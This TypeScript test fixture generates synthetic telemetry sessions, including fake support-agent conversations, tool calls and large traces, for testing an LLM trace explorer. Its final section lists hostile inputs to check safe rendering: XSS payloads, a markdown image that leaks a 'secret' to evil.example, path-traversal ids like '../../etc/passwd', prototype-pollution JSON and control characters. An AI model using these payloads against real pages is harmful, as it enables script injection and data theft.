/**
 * Records for whoever looks at the explorer, in tests and on pictures: sessions of all kinds, those that are hard to show
 * among them. The same numbers give the same records.
 */
import { Effect } from "effect"
import type { LogRecord } from "../../src/signal/LogRecord.js"
import type { Score } from "../../src/signal/Score.js"
import type { SpanRecord } from "../../src/signal/SpanRecord.js"
import { Storage, type StorageError } from "../../src/storage/Storage.js"
import { type LogFields, log, type ScoreFields, type SpanFields, score, span } from "../../src/testing/Records.js"
import { attributesOf, type Convention, conventions, type Message, toolAttributes } from "./explorerConventions.js"

export interface Records {
  readonly spans: ReadonlyArray<SpanRecord>
  readonly logs: ReadonlyArray<LogRecord>
  readonly scores: ReadonlyArray<Score>
}

/** Stores records, a thousand at a time. */
export const insert = ({ logs, scores, spans }: Records): Effect.Effect<void, StorageError, Storage> =>
  Effect.flatMap(Storage, (storage) =>
    Effect.all([
      Effect.forEach(chunksOf(spans), storage.insertSpans),
      Effect.forEach(chunksOf(logs), storage.insertLogs),
      Effect.forEach(chunksOf(scores), storage.insertScores)
    ])
  )

const chunksOf = <A>(items: ReadonlyArray<A>): ReadonlyArray<ReadonlyArray<A>> =>
  Array.from({ length: Math.ceil(items.length / 1_000) }, (_, i) => items.slice(i * 1_000, (i + 1) * 1_000))

const together = (all: ReadonlyArray<Records>): Records => ({
  spans: all.flatMap(({ spans }) => spans),
  logs: all.flatMap(({ logs }) => logs),
  scores: all.flatMap(({ scores }) => scores)
})

const second = 1_000
const minute = 60 * second
const hour = 60 * minute

/** Numbers from 0 to 1, the same for the same seed. */
const randomOf = (seed: number) => {
  let state = seed >>> 0
  return () => {
    state = (state + 0x6d2b79f5) >>> 0
    let t = Math.imul(state ^ (state >>> 15), state | 1)
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61)
    return ((t ^ (t >>> 14)) >>> 0) / 2 ** 32
  }
}

const nanos = (millis: number): bigint => BigInt(Math.round(millis)) * 1_000_000n

/** What all records of a session have in common. */
interface About {
  readonly sessionId: string
  readonly userId?: string | undefined
  readonly environment?: string | undefined
  readonly serviceName?: string | undefined
  readonly tags?: ReadonlyArray<string> | undefined
  readonly metadata?: SpanFields["metadata"]
}

interface Timed {
  /** Milliseconds since the epoch. */
  readonly start: number
  /** Milliseconds; a span without is running. */
  readonly lasts?: number | undefined
}

/** Makes the records of one session, whose ids count on from its number. */
class SessionWriter {
  readonly spans: Array<SpanRecord> = []
  readonly logs: Array<LogRecord> = []
  readonly scores: Array<Score> = []
  private traces = 0
  private made = 0

  constructor(
    private readonly number: number,
    private readonly about: About
  ) {}

  /** The id of the next trace. */
  trace(): string {
    this.traces++
    return `e${this.number.toString(16).padStart(11, "0")}${this.traces.toString(16).padStart(20, "0")}`
  }

  span({ lasts, start, ...fields }: Timed & SpanFields): SpanRecord {
    this.made++
    const made = span({
      ...this.about,
      spanId: `e${this.number.toString(16).padStart(7, "0")}${this.made.toString(16).padStart(8, "0")}`,
      startTime: nanos(start),
      ...(lasts === undefined ? { status: "running" as const } : { endTime: nanos(start + lasts) }),
      resource: { "service.name": this.about.serviceName ?? "support" },
      ...fields
    } as SpanFields)
    this.spans.push(made)
    return made
  }

  log({ at, ...fields }: { readonly at: number } & LogFields): void {
    this.made++
    const logId = `explorer-${this.number}-${this.made}`
    this.logs.push(log({ ...this.about, logId, timestamp: nanos(at), ...fields } as LogFields))
  }

  score({ at, ...fields }: { readonly at: number } & ScoreFields): void {
    this.made++
    const scoreId = `explorer-${this.number}-${this.made}`
    this.scores.push(score({ ...this.about, scoreId, time: nanos(at), ...fields } as ScoreFields))
  }
}

// Conversations

const customers = ["ada@example.com", "grace", "linus", "margaret", "用户-42", "zoë"]
const models = [
  ["gpt-5.2", "openai", 2e-6, 8e-6],
  ["claude-sonnet-5", "anthropic", 3e-6, 15e-6],
  ["gemini-3-flash", "gcp.gemini", 0.3e-6, 2.5e-6],
  ["llama-4-70b", "groq", 0.2e-6, 0.6e-6]
] as const
const agents = ["concierge", "billing", "shipping"]

const errands = [
  ["Where is my parcel?", "find_parcel", { order: "A-1007" }, { status: "in transit", depot: "Łódź", eta: "tomorrow" }],
  ["Please cancel order A-1010.", "cancel_order", { order: "A-1010" }, { cancelled: true, refund: 49.9 }],
  ["Which kettle is quiet?", "search_products", { query: "quiet kettle", limit: 3 }, [{ sku: "K-2" }, { sku: "K-9" }]],
  ["What did I pay in May?", "list_invoices", { month: "2026-05" }, { total: 129.4, currency: "EUR" }],
  ["Change my address to 5 Rue de l’Église.", "set_address", { street: "5 Rue de l’Église" }, "ok"]
] as const

export const markdown = `## What I found

Your parcel left **Łódź** at *07:40*; see [the carrier](https://example.com/track?id=1).

| day | place | state |
|---|---|---:|
| Mon | Łódź | sorted |
| Tue | Berlin | \`in transit\` |

1. It comes tomorrow.
2. You need not be there:
   - the neighbour may take it,
   - or the locker.

> A signature is not needed.

\`\`\`ts
const eta = await carrier.track("A-1007")
if (eta.days < 2) console.log("soon")
\`\`\`
`

/** An image of one pixel. */
export const pixel = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="

const user = (text: string): Message => ({ role: "user", text })
const assistant = (text: string, more: Partial<Message> = {}): Message => ({ role: "assistant", text, ...more })

interface Turned {
  readonly traceId: string
  readonly root: SpanRecord
}

/** A conversation that is recorded turn by turn, by one convention. */
class Conversation {
  readonly history: Array<Message> = []

  constructor(
    readonly writer: SessionWriter,
    private readonly random: () => number,
    private readonly options: {
      readonly agent: string
      readonly model: (typeof models)[number]
      readonly convention?: Convention | undefined
      readonly system?: string | undefined
    }
  ) {}

  /** A call of the model with all that was said. */
  call(
    where: { readonly traceId: string; readonly parentSpanId: string } & Timed,
    output: Message,
    fields: SpanFields = {}
  ) {
    const { convention = "otel", model, system } = this.options
    const [name, provider, input, out] = model
    const size = this.history.reduce((sum, message) => sum + JSON.stringify(message).length, 0)
    const inputTokens = 200 + Math.ceil(size / 4)
    const outputTokens = 5 + Math.ceil(JSON.stringify(output).length / 4)
    const hasEnded = where.lasts !== undefined
    const said = attributesOf(convention, { system, input: this.history, output: hasEnded ? [output] : [] })
    const made = this.writer.span({
      ...where,
      name: `chat ${name}`,
      kind: "client",
      spanType: "model_generation",
      model: name,
      requestModel: name,
      provider,
      ...(hasEnded && {
        inputTokens,
        outputTokens,
        cachedInputTokens: Math.floor(inputTokens * 0.6),
        ...(output.reasoning !== undefined && { reasoningTokens: Math.ceil(output.reasoning.length / 4) }),
        timeToFirstToken: nanos(120 + this.random() * 400),
        costUsd: Number((inputTokens * input + outputTokens * out).toFixed(9)),
        costSource: "table" as const
      }),
      ...said,
      ...fields
    })
    this.history.push(output)
    return made
  }

  /** The call of a tool, and its result. */
  tool(
    where: { readonly traceId: string; readonly parentSpanId: string } & Timed,
    call: { readonly id: string; readonly name: string; readonly arguments: unknown },
    result: unknown,
    fields: SpanFields = {}
  ) {
    const made = this.writer.span({
      ...where,
      name: `execute_tool ${call.name}`,
      spanType: "tool_call",
      toolName: call.name,
      ...toolAttributes(this.options.convention ?? "otel", call, where.lasts === undefined ? undefined : result),
      ...fields
    })
    this.history.push({ role: "tool", result: { id: call.id, value: result } })
    return made
  }

  /** A turn: the user asks, the model has tools called, side by side, and answers. */
  turn(
    start: number,
    asked: Message,
    calls: ReadonlyArray<{ readonly name: string; readonly arguments: unknown; readonly result: unknown }>,
    answer: Message,
    fields: SpanFields = {}
  ): Turned {
    const { agent } = this.options
    const traceId = this.writer.trace()
    const lasts = 1_800 + 400 * calls.length + Math.floor(this.random() * 2_000)
    const root = this.writer.span({
      traceId,
      start,
      lasts,
      name: `invoke_agent ${agent}`,
      spanType: "agent_run",
      agentName: agent,
      ...fields
    })
    const below = { traceId, parentSpanId: root.spanId }
    this.history.push(asked)
    if (calls.length > 0) {
      const made = calls.map((call, i) => ({ ...call, id: `call_${traceId.slice(-4)}_${i}` }))
      this.call(
        { ...below, start: start + 20, lasts: 600 },
        { role: "assistant", reasoning: "The customer needs facts: a tool has them.", calls: made }
      )
      for (const [i, call] of made.entries()) {
        this.tool({ ...below, start: start + 640 + i * 10, lasts: 150 + 90 * i }, call, call.result)
      }
    }
    this.call({ ...below, start: start + lasts - 900, lasts: 880 }, answer)
    return { traceId, root }
  }
}

/** An exception as OpenTelemetry has it, with a cause. */
const exception = (type: string, message: string, time: number) => ({
  name: "exception",
  time: nanos(time),
  attributes: {
    "exception.type": type,
    "exception.message": message,
    "exception.stacktrace": [
      `${type}: ${message}`,
      ...Array.from({ length: 8 }, (_, i) => `    at step${i} (/app/src/tools/orders.ts:${40 + i}:${7 + i})`),
      "  [cause]: Error: connect ECONNREFUSED 10.0.0.7:5432",
      "    at TCPConnectWrap.afterConnect [as oncomplete] (node:net:1611:16)"
    ].join("\n")
  }
})

/** Names of the sessions that a test looks for. */
export const named = {
  failed: "support-0003",
  images: "with-images",
  running: "running",
  long: "long-texts",
  nested: "nested-agents",
  convention: (convention: Convention) => `convention-${convention}`
}

const usual = (now: number, n: number): Records => {
  const random = randomOf(n + 1)
  const isFailed = n % 5 === 3
  const model = models[n % models.length] as (typeof models)[number]
  const agent = agents[n % agents.length] as string
  const userId = customers[n % customers.length]
  const writer = new SessionWriter(n, {
    sessionId: `support-${String(n).padStart(4, "0")}`,
    userId,
    environment: n % 4 === 0 ? "staging" : "production",
    serviceName: n % 7 === 0 ? "voice" : "support",
    tags: ["shop", ...(n % 3 === 0 ? ["vip"] : [])],
    metadata: { channel: n % 2 === 0 ? "web" : "phone", locale: "de-DE" }
  })
  const conversation = new Conversation(writer, random, { agent, model, system: `You are the ${agent} of a shop.` })
  const turns = 1 + Math.floor(random() * 5)
  let at = now - (n + 1) * 2.4 * hour
  let last: Turned | undefined
  for (let turn = 0; turn < turns; turn++) {
    const [asked, name, args, result] = errands[(n + turn) % errands.length] as (typeof errands)[number]
    writer.log({ at, level: "info", message: `the customer wrote to ${agent}`, data: [{ turn }] })
    if (isFailed && turn === turns - 1) {
      last = failedTurn(writer, conversation, at, asked, name, args)
    } else {
      const calls = [{ name, arguments: args, result }]
      if (turn % 2 === 1)
        calls.push({ name: "read_customer", arguments: { id: userId }, result: { tier: "gold" } } as never)
      const answer = assistant(turn % 3 === 2 ? markdown : `Done: ${JSON.stringify(result)}. Is there anything else?`)
      last = conversation.turn(at, user(asked), calls, answer)
    }
    const { root, traceId } = last
    const level = (["trace", "debug", "info", "warn", "error", "fatal"] as const)[(n + turn) % 6] ?? "info"
    writer.log({
      at: at + 700,
      level,
      message: `${name} took its time`,
      attributes: { "app.attempt": turn + 1 },
      traceId,
      spanId: root.spanId
    })
    at += (20 + random() * 90) * second
  }
  if (n % 2 === 0) {
    const value = isFailed ? 0 : 1
    const comment = isFailed ? "It never told me why it failed." : "Quick and kind."
    writer.score({ at, name: "thumbs", value, dataType: "boolean", source: "user", authorId: userId, comment })
  }
  writer.score({
    at,
    name: "relevance",
    value: Number(random().toFixed(2)),
    dataType: "numeric",
    source: "model",
    scorer: { name: "judge", version: "3", model: "gpt-5.2" },
    traceId: last?.traceId
  })
  if (n % 3 === 0) {
    const label = (["friendly", "neutral", "curt"] as const)[n % 9 === 0 ? 0 : n % 2 === 0 ? 1 : 2]
    writer.score({ at, name: "tone", label, dataType: "categorical", source: "human", authorId: "reviewer-1" })
  }
  return writer
}

/** A turn of which a tool fails, and with it all that is above. */
const failedTurn = (
  writer: SessionWriter,
  conversation: Conversation,
  at: number,
  asked: string,
  name: string,
  args: unknown
): Turned => {
  const traceId = writer.trace()
  const message = "The database of orders cannot be reached."
  const failed = { status: "error", errorType: "OrdersUnavailable", statusMessage: message } as const
  const root = writer.span({
    traceId,
    start: at,
    lasts: 2_600,
    name: "invoke_agent",
    spanType: "agent_run",
    agentName: "concierge",
    ...failed,
    events: [exception("OrdersUnavailable", message, at + 2_590)]
  })
  const below = { traceId, parentSpanId: root.spanId }
  const call = { id: "call_failed", name, arguments: args }
  conversation.history.push(user(asked))
  conversation.call({ ...below, start: at + 10, lasts: 700 }, { role: "assistant", calls: [call] })
  conversation.tool({ ...below, start: at + 720, lasts: 1_800 }, call, `Error: ${message}`, {
    ...failed,
    events: [exception("OrdersUnavailable", message, at + 2_500)]
  })
  writer.log({
    at: at + 2_520,
    level: "error",
    message: `${name} failed`,
    cause: `OrdersUnavailable: ${message}\n  at orders.ts:40\n  [cause]: connect ECONNREFUSED`,
    traceId,
    spanId: root.spanId
  })
  return { traceId, root }
}

/** The same conversation by each convention, so that a page shows the same. */
const ofConvention = (now: number, convention: Convention, n: number): Records => {
  const writer = new SessionWriter(100 + n, {
    sessionId: named.convention(convention),
    userId: "vendor",
    environment: "conventions",
    serviceName: convention,
    tags: ["convention"]
  })
  const system = "You know the weather."
  const conversation = new Conversation(writer, randomOf(100 + n), {
    agent: "forecaster",
    model: models[n % models.length] as (typeof models)[number],
    convention,
    system
  })
  const start = now - 30 * hour - n * 7 * minute
  const city = { city: "Łódź" }
  conversation.turn(
    start,
    user("Will it rain in Łódź?"),
    [{ name: "get_weather", arguments: city, result: { rain: true, degrees: 7 } }],
    assistant("Yes, at 7 °C.")
  )
  conversation.turn(start + minute, user("And on Friday?"), [], assistant("Friday stays dry."))
  return writer
}

const withImages = (now: number): Records => {
  const writer = new SessionWriter(200, { sessionId: named.images, userId: "grace", tags: ["shop", "images"] })
  const conversation = new Conversation(writer, randomOf(200), { agent: "billing", model: models[1] })
  const image = { mediaType: "image/png", data: pixel }
  const start = now - 3 * hour
  conversation.turn(start, { ...user("What is in this picture?"), image }, [], assistant("One pixel, which is red."))
  conversation.turn(
    start + minute,
    { ...user("And there?"), image: { mediaType: "image/jpeg", uri: "https://example.com/kettle.jpg" } },
    [],
    assistant("I cannot see pictures that are elsewhere.")
  )
  return writer
}

const nested = (now: number): Records => {
  const writer = new SessionWriter(201, { sessionId: named.nested, userId: "linus", tags: ["research"] })
  const conversation = new Conversation(writer, randomOf(201), { agent: "lead", model: models[0] })
  const start = now - 5 * hour
  const traceId = writer.trace()
  const root = writer.span({
    traceId,
    start,
    lasts: 9_000,
    name: "invoke_agent lead",
    spanType: "agent_run",
    agentName: "lead"
  })
  conversation.history.push(user("Compare three kettles."))
  for (const [i, agentName] of ["researcher", "critic", "writer"].entries()) {
    const at = start + 200 + i * 1_500
    const step = writer.span({
      traceId,
      parentSpanId: root.spanId,
      start: at,
      lasts: 5_000,
      name: `step ${i + 1}`,
      spanType: "workflow_step"
    })
    const agent = writer.span({
      traceId,
      parentSpanId: step.spanId,
      start: at + 50,
      lasts: 4_800,
      name: `invoke_agent ${agentName}`,
      spanType: "agent_run",
      agentName,
      links: [{ traceId, spanId: root.spanId, attributes: { reason: "hand-off" } }]
    })
    const below = { traceId, parentSpanId: agent.spanId }
    writer.span({ ...below, start: at + 60, lasts: 300, name: "search manuals", spanType: "retrieval" })
    conversation.call({ ...below, start: at + 400, lasts: 2_000 }, assistant(`The ${agentName} says: kettle ${i + 1}.`))
    conversation.history.push(user("Go on."))
  }
  conversation.call({ traceId, parentSpanId: root.spanId, start: start + 8_200, lasts: 700 }, assistant(markdown))
  return writer
}

const words = "the quick brown fox jumps over a lazy dog while nobody looks at what the kettle says about Łódź".split(
  " "
)

const prose = (random: () => number, length: number): string => {
  let text = ""
  while (text.length < length) text += `${words[Math.floor(random() * words.length)]}${random() < 0.08 ? ".\n\n" : " "}`
  return text.slice(0, length)
}

const longTexts = (now: number): Records => {
  const random = randomOf(202)
  const writer = new SessionWriter(202, { sessionId: named.long, userId: "margaret", tags: ["long"] })
  const conversation = new Conversation(writer, random, { agent: "writer", model: models[2] })
  const at = now - 8 * hour
  conversation.turn(
    at,
    user(prose(random, 20_000)),
    [{ name: "read_file", arguments: { path: "/a/b.txt" }, result: prose(random, 60_000) }],
    assistant(`${markdown}\n${prose(random, 30_000)}`, { reasoning: prose(random, 8_000) })
  )
  return writer
}

/**
 * The session that goes on, after so many steps: 0 is the first, and each has all before it. Those from 5 on add a turn each.
 */
export const growing = (now: number, step: number): Records => {
  const writer = new SessionWriter(203, { sessionId: named.running, userId: "ada@example.com", tags: ["live"] })
  const conversation = new Conversation(writer, randomOf(203), { agent: "concierge", model: models[0] })
  const start = now - 4 * second
  const traceId = writer.trace()
  const isEnded = step >= 4
  const root = writer.span({
    traceId,
    start,
    ...(isEnded && { lasts: 3_900, status: "ok" }),
    name: "invoke_agent concierge",
    spanType: "agent_run",
    agentName: "concierge"
  } as Timed & SpanFields)
  const below = { traceId, parentSpanId: root.spanId }
  const call = { id: "call_live", name: "find_parcel", arguments: { order: "A-2000" } }
  conversation.history.push(user("Where is A-2000?"))
  conversation.call(
    { ...below, start: start + 10, ...(step >= 1 && { lasts: 700 }) },
    { role: "assistant", calls: [call] }
  )
  if (step >= 1) {
    writer.log({ at: start + 720, level: "info", message: "asking the carrier", traceId })
    conversation.tool({ ...below, start: start + 720, ...(step >= 2 && { lasts: 1_500 }) }, call, "out for delivery")
  }
  if (step >= 3) {
    conversation.call(
      { ...below, start: start + 2_300, ...(isEnded && { lasts: 1_500 }) },
      assistant("It comes today.")
    )
  }
  for (let turn = 5; turn <= step; turn++) {
    conversation.turn(now + (turn - 5) * 10 * second, user(`Question ${turn}?`), [], assistant(`Answer ${turn}.`))
  }
  return writer
}

/** About forty sessions of the last three days before a time, in milliseconds since the epoch. */
export const sessions = (now: number): Records =>
  together([
    ...Array.from({ length: 26 }, (_, n) => usual(now, n)),
    ...conventions.map((convention, n) => ofConvention(now, convention, n)),
    withImages(now),
    nested(now),
    longTexts(now),
    growing(now, 2)
  ])

/** A conversation of many turns, each with a call of a tool. */
export const longConversation = (now: number, turns = 200): Records => {
  const random = randomOf(300)
  const writer = new SessionWriter(300, { sessionId: "two-hundred-turns", userId: "zoë" })
  const conversation = new Conversation(writer, random, { agent: "concierge", model: models[1] })
  for (let turn = 0; turn < turns; turn++) {
    const [asked, name, args, result] = errands[turn % errands.length] as (typeof errands)[number]
    const answer = turn % 4 === 0 ? markdown : prose(random, 200 + Math.floor(random() * 600))
    const at = now - (turns - turn) * minute
    // As memory has it: a model is given the last messages alone.
    conversation.history.splice(0, Math.max(0, conversation.history.length - 40))
    conversation.turn(at, user(`${turn + 1}: ${asked}`), [{ name, arguments: args, result }], assistant(answer))
  }
  return writer
}

/** The id of the large trace, and of its session. */
export const big = { traceId: `b${"0".repeat(31)}`, sessionId: "large-trace" }

/** A trace of many spans, each with so many bytes of attributes: in parts, of which memory holds one. */
function* bigTrace(now: number, count = 20_000, bytes = 10_000): Generator<ReadonlyArray<SpanRecord>> {
  const random = randomOf(400)
  const writer = new SessionWriter(400, { sessionId: big.sessionId, userId: "linus", serviceName: "research" })
  const start = now - hour
  const step = (50 * minute) / count
  // Parents by depth: the last span of each.
  const path: Array<string> = []
  for (let i = 0; i < count; i++) {
    const depth = i === 0 ? 0 : Math.min(path.length, 1 + Math.floor(random() * 12))
    const type = i === 0 ? "agent_run" : (["generic", "model_generation", "tool_call", "workflow_step"] as const)[i % 4]
    const isFailed = i % 997 === 996
    const made = writer.span({
      traceId: big.traceId,
      ...(depth > 0 && { parentSpanId: path[depth - 1] }),
      start: start + i * step,
      lasts: i === 0 ? 50 * minute : 5 + random() * 20 * step * (14 - depth),
      name: i === 0 ? "invoke_agent research" : `${type} ${i}`,
      spanType: type,
      ...(type === "model_generation" && { model: "gpt-5.2", inputTokens: 900, outputTokens: 80, costUsd: 0.0024 }),
      ...(type === "tool_call" && { toolName: `tool_${i % 13}` }),
      ...(isFailed && { status: "error", errorType: "Refused", statusMessage: "It was refused." }),
      attributes: { "app.index": i, "app.payload": prose(random, Math.max(0, bytes - 64)) }
    } as Timed & SpanFields)
    path.length = depth
    path.push(made.spanId)
    if (writer.spans.length === 500 || i === count - 1) yield writer.spans.splice(0)
  }
}

/** Stores the large trace. */
export const insertBigTrace = (
  now: number,
  count?: number,
  bytes?: number
): Effect.Effect<void, StorageError, Storage> =>
  Effect.flatMap(Storage, ({ insertSpans }) =>
    Effect.forEach(bigTrace(now, count, bytes), insertSpans, { discard: true })
  )

// Strangers

/** Each would set `window.pwned`, or ask `evil.example`, where a page took it for anything but text. */
export const scripts = [
  "<script>window.pwned = 1</script>",
  `<img src=x onerror="window.pwned = 1">`,
  `"><svg onload=window.pwned=1>`,
  "</textarea></style></title><script>window.pwned=1</script>",
  "[a link](javascript:window.pwned=1)",
  "[another](data:text/html,<script>window.pwned=1</script>)",
  "![a picture](https://evil.example/leak?q=secret)",
  "<a href='https://evil.example'>x</a> {{constructor.constructor('window.pwned=1')()}}"
]

export const bidi = "abc\u202edcba\u202c \u2066isolated\u2069 \u200brtl\u200f"
export const controls = "bell\u0007 escape\u001b[31mred\u001b[0m null\u0000 tab\t back\u0008 delete\u007f c1\u009b31m"
/** JSON of which the text has halves of characters: no storage keeps these, but whoever parses an attribute gets them. */
export const halves = `{"half":"\\ud83d and \\udc00","__proto__":{"pwned":true}}`

/** Session ids that are hard to put into an address. */
export const hostileIds = [
  "a/b/../c",
  "../../etc/passwd",
  "100%25",
  "%2F%2e%2e",
  `"double" 'single' \`tick\``,
  "with  two spaces",
  "?a=1&b=2#hash",
  "<script>window.pwned=1</script>",
  "__proto__",
  "constructor",
  ".",
  "..",
  "x".repeat(200)
]

/** Sessions of a stranger who means harm. */
export const hostile = (now: number): Records => {
  const parsed = JSON.parse(`{"__proto__":{"pwned":true},"constructor":{"prototype":{"pwned":true}},"toString":"x"}`)
  const all = hostileIds.map((sessionId, n) => {
    const script = scripts[n % scripts.length] as string
    const writer = new SessionWriter(500 + n, {
      sessionId,
      userId: `😀 ${script}`,
      environment: script.slice(0, 60),
      serviceName: `svc ${script}`.slice(0, 60),
      tags: [script, "__proto__", "😀"],
      metadata: { ...parsed, [script]: script }
    })
    const conversation = new Conversation(writer, randomOf(500 + n), {
      agent: `agent ${script}`,
      model: [`model ${script}`, `provider ${script}`, 1e-6, 1e-6] as never,
      system: scripts.join("\n")
    })
    const start = now - (n + 1) * minute
    const { root, traceId } = conversation.turn(
      start,
      user(`${script}\n${bidi}\n${controls}`),
      [
        { name: script, arguments: { ...parsed, script, deep: scripts }, result: scripts.join("\n") },
        { name: "__proto__", arguments: parsed, result: `${bidi} ${controls}` }
      ],
      assistant(`${scripts.join("\n\n")}\n\n${bidi} ${controls}`, { reasoning: script }),
      {
        attributes: { [script]: script, ...parsed, "app.json": halves },
        events: [exception(script, `${script} ${controls}`, start)]
      }
    )
    writer.log({
      at: start,
      level: "error",
      message: `${script} ${bidi} ${controls}`,
      cause: script,
      traceId,
      spanId: root.spanId
    })
    writer.score({ at: start, name: n % 2 === 0 ? "__proto__" : script, value: 1, comment: script, source: "user" })
    return writer
  })
  return together([...all, heavy(now)])
}

/** The session with an attribute of 10 MB, and a word of 100,000 letters. */
export const heavyId = "heavy"

const heavy = (now: number): Records => {
  const writer = new SessionWriter(600, { sessionId: heavyId, userId: "w".repeat(200) })
  const conversation = new Conversation(writer, randomOf(600), { agent: "heavy", model: models[0] })
  conversation.turn(
    now - 10 * second,
    user("w".repeat(100_000)),
    [
      {
        name: "n".repeat(300),
        arguments: { list: Array.from({ length: 20_000 }, (_, i) => i) },
        result: "r".repeat(200_000)
      }
    ],
    assistant("|".repeat(20_000)),
    { attributes: { "app.huge": "0123456789abcdef".repeat(655_360), "app.word": "w".repeat(100_000) } }
  )
  return writer
}
